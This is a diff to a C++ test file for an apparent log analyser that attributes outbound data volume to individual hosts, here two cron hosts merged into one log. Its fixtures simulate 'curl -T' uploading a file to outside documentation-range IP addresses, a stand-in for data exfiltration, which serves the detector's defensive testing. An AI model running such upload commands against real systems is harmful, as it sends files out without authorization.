@@ -193,17 +193,15 @@ TEST_CASE("movement: lines up to 300 places from where they belong change nothin
 }
 
 TEST_CASE("movement: two hosts' lines dealt into one log") {
-  CronHost a;
-  CronHost b;
-  a.node = "etl-01";
-  b.node = "bk-07";
+  CronHost a("etl-01");
+  CronHost b("bk-07");
   const int curl = a.tool("/usr/bin/curl", {"curl", "-T", "f", "http://203.0.113.9/"});
   const int same = b.tool("/usr/bin/curl", {"curl", "-T", "f", "http://198.51.100.7/"});
   REQUIRE(curl == same);
   a.tcp(curl, 3, kDrop, 80);
   b.tcp(same, 3, kOther, 80);
   for (int i = 0; i < 20; ++i) {
-    a.send(curl, 3, 100);
+    a.send(curl, 3, 1000);
     b.send(same, 3, 1000 + i);
   }
   b.send(same, 3, 100);
@@ -227,7 +225,7 @@ TEST_CASE("movement: two hosts' lines dealt into one log") {
   REQUIRE(hosts.size() == 2);
   REQUIRE(hosts.at("etl-01").facts.size() == 1);
   REQUIRE(hosts.at("bk-07").facts.size() == 1);
-  CHECK(sum(hosts.at("etl-01").facts[0]) == "out 2000 measured");
+  CHECK(sum(hosts.at("etl-01").facts[0]) == "out 20000 measured");
   CHECK(sum(hosts.at("bk-07").facts[0]) == "out 20290 measured");
   CHECK(destination(hosts.at("bk-07").facts[0], kOther) != nullptr);
 }
